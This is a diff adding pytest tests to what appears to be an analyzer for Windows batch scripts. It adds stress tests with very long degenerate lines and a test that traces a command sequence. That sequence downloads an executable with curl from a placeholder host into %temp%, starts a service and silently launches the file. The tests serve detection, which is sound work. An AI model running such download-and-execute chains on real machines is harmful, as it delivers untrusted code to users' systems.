@@ -221,6 +221,21 @@ def test_limits_hold(lines):
         line("\r\n".join(lines), "a.bat", limits=Limits(operations=100_000))
 
 
+@pytest.mark.parametrize(
+    "text",
+    ["(" * 100_000, "(" * 3_000 + "net user" + ")" * 3_000, '"' * 100_000, "^" * 100_001, "%a" * 50_000, ">a" * 50_000, "a|" * 2_000],
+)
+def test_long_lines_of_nothing(text):
+    with contextlib.suppress(LimitReached):
+        line(text, limits=Limits(operations=100_000))
+
+
+def test_what_was_fetched_and_is_started():
+    ran = batch("curl -o %temp%\\a.exe http://files.example.test/a", "net start spooler", "start %temp%\\a.exe /s")
+    fetched = [f.detail.get("downloaded", "") for f in ran.items if isinstance(f, Fact) and f.kind == "effect.run"]
+    assert fetched == ["", "", "http://files.example.test/a"]
+
+
 PIECES = st.sampled_from(
     ["cmd /c ", "set x=", "%x%", "!x!", "%x:~1,2%", "for %a in (", ") do ", "if ", "1==1 ", "(", ")", "&", "|", "||", "&&", "^", '"', "\r\n", ">a.bat ",
      "<a.bat ", "goto :a", ":a", "call ", "echo ", "a.bat ", "findstr x ", "%~f0", "/f ", "'", "set /a y=", "1+", "else ", "not ", "start ", "%%a", "*"]
